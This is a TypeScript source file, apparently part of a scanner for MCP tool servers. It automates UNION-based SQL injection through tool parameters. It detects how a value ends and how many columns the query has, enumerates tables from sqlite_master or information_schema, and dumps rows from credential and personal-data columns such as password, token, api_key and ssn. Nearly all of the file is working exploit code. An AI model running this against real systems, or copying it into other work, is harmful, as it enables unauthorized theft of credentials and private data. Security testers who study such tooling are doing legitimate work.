import type { Explorer, Slot } from './mcp-calls.ts'
import { callOf } from './mcp-known.ts'

/** Limits of one message. Own limits. */
const CALLS_MAX = 160
const SLOTS_MAX = 4
const COLUMNS_MAX = 8
const TABLES_MAX = 6
const ROWS_MAX = 20
/** Begins and ends each value in an answer; a query contains them in pieces only. */
const OPEN = 'qzv'
const CLOSE = 'vzq'
const VALUE = /qzv([^\n]{0,200}?)vzq/g

/** Beginnings that end a text or a number in a query. */
const BREAKS: readonly string[] = ["x'", '0', "x')", '0)', 'x"']
type Join = (parts: readonly string[]) => string
const JOINS: readonly Join[] = [(parts) => parts.join('||'), (parts) => `concat(${parts.join(',')})`]
/** Names of columns of persons and credentials, for databases whose catalog is closed. */
const USUAL_COLUMNS = ['id', 'name', 'email', 'phone', 'role', 'address', 'password', 'password_hash', 'secret', 'token', 'api_key', 'ssn'] as const // prettier-ignore

/** An injectable parameter: runs a query with one column, and returns its values. */
type Select = (column: string, from: string) => Promise<readonly string[]>

/**
 * Reads tables through a parameter that is open to SQL injection, step by step: the end of the value, the number of columns, the tables,
 * the columns. Reads only. @returns the rows of each table, as JSON
 */
export async function readTables(explorer: Explorer, slots: readonly Slot[]): Promise<readonly string[]> {
  let calls = 0
  const send = async ({ tool, parameter }: Slot, value: string): Promise<string> => {
    calls += 1
    if (calls > CALLS_MAX) return ''
    return (await explorer.ask(callOf(tool, { [parameter.name]: value })))?.text ?? ''
  }
  for (const slot of slots.slice(0, SLOTS_MAX)) {
    // oxlint-disable-next-line no-await-in-loop
    const select = await openSelect((value) => send(slot, value))
    // oxlint-disable-next-line no-await-in-loop
    if (select !== undefined) return dump(select)
  }
  return []
}

/** Finds how the value ends and how many columns the query has. */
async function openSelect(send: (value: string) => Promise<string>): Promise<Select | undefined> {
  const plain = await send('x')
  for (const end of BREAKS) {
    // oxlint-disable-next-line no-await-in-loop
    if ((await send(end === '0' || end === '0)' ? `${end}'` : end)) === plain) continue
    for (const join of JOINS) {
      for (let count = 1; count <= COLUMNS_MAX; count += 1) {
        const query = (column: string, from: string): string => {
          const cell = join([`'${OPEN[0]}'`, `'${OPEN.slice(1)}'`, column, `'${CLOSE[0]}'`, `'${CLOSE.slice(1)}'`])
          const cells = [cell, ...Array.from({ length: count - 1 }, () => 'NULL')]
          return `${end} UNION ALL SELECT ${cells.join(', ')}${from === '' ? '' : ` FROM ${from}`} -- `
        }
        // oxlint-disable-next-line no-await-in-loop
        const answer = await send(query("'w'", ''))
        if (!answer.includes(`${OPEN}w${CLOSE}`)) continue
        return async (column, from) =>
          Array.from((await send(query(column, from))).matchAll(VALUE), ([, value = '']) => value).slice(0, ROWS_MAX)
      }
    }
  }
  return undefined
}

async function dump(select: Select): Promise<readonly string[]> {
  const ofSqlite = await select('name', 'sqlite_master')
  const listed = ofSqlite.length > 0 ? ofSqlite : await select('table_name', 'information_schema.tables')
  const tables = listed.filter((table) => /^[a-z_]\w{1,60}$/i.test(table) && !/^(?:sqlite_|pg_|sql_)/i.test(table))
  const notes: string[] = [`tables: ${tables.join(', ')}`]
  for (const table of tables.slice(0, TABLES_MAX)) {
    const columns: (readonly [string, readonly string[]])[] = []
    for (const column of USUAL_COLUMNS) {
      // oxlint-disable-next-line no-await-in-loop
      const values = await select(column, table)
      if (values.length > 0) columns.push([column, values])
    }
    const count = Math.max(0, ...columns.map(([, values]) => values.length))
    const rows = Array.from({ length: count }, (_, at) =>
      Object.fromEntries(columns.flatMap(([name, values]) => (values[at] === undefined ? [] : [[name, values[at]]]))),
    )
    notes.push(`rows of ${table}: ${rows.map((row) => JSON.stringify(row)).join(' ')}`)
  }
  return notes
}
